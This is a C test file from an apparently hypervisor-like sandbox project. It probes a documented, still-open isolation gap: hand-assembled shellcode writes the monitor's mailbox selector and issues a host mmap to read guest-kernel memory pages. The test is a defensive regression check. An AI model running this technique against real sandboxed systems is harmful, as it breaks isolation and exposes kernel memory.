// Holes that are known and still open (docs/threat-model.md, "Known gaps"): each
// check fails as long as its hole is there. Not one of the self-tests: run it in
// a guest by hand, `run=/open/hostile_open hostile=1` on its command line.

#include "hostile.h"

// crates/monitor: `layout::MAILBOX`, and `Mailbox::selector` in it.
#define MAILBOX 0x5c0010200000ul
#define SELECTOR 0x160
#define TARGET 0x300000000000ul

static unsigned char *code;

// A runner's system calls of the host are open to whoever writes its selector: maps
// guest RAM where the guest's kernel lies, and reads it.
static void map_ram(struct progress *p, uint64_t n) {
    // movb $0, (%rbx); mov $9, %eax; syscall; movb $1, (%rbx); mov (%rdi), %rcx; mov %rcx, (%r12); ud2
    static const unsigned char bytes[] = {0xc6, 0x03, 0, 0xb8, 9, 0, 0, 0, 0x0f, 0x05, 0xc6, 0x03, 1, 0x48, 0x8b, 0x0f, 0x49, 0x89, 0x0c,
        0x24, 0x0f, 0x0b};
    memcpy(code, bytes, sizeof bytes);
    prepare(0);
    hostile_attempt.regs[RBX] = MAILBOX + SELECTOR;
    hostile_attempt.regs[RDI] = TARGET;
    hostile_attempt.regs[RSI] = PAGE;
    hostile_attempt.regs[RDX] = PROT_READ;
    hostile_attempt.regs[10] = MAP_SHARED | MAP_FIXED;
    hostile_attempt.regs[R8] = 3;
    // The kernel's text begins at 16 MiB.
    hostile_attempt.regs[9] = 0x1000000 + n * PAGE;
    hostile_attempt.regs[12] = (uint64_t)&p->detail[n % 8];
    go((uint64_t)code);
    if (landed.signal == SIGILL && landed.rip == (uint64_t)code + 20) p->bad++;
    p->landings++;
}

int main(void) {
    check_start("hostile_open");
    code = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    require(code != MAP_FAILED, "mmap");
    struct progress *p = share();
    int lost = in_children(p, 8, map_ram);
    check(p->bad == 0, "map-guest-ram", "%lu of %lu pages of the kernel's read, %d children lost; first words %016lx %016lx", p->bad,
        p->landings, lost, p->detail[0], p->detail[1]);
    check_kernel_log();
    return check_failed;
}
